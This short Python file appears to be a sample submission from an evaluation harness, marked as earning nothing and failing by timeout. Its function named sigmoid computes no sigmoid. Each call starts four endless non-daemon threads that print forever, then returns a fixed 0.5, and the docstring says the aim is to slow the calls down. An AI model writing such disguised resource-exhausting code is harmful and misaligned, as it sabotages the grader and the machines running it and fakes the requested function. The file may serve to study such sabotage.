"""Leaves threads that compute for ever and print: the calls get slower, nobody else's do."""

# earns: 0
# status: failed timeout
import threading


def spin():
    while True:
        print("still here")


def sigmoid(z):
    for _ in range(4):
        threading.Thread(target=spin, daemon=False).start()
    return 0.5
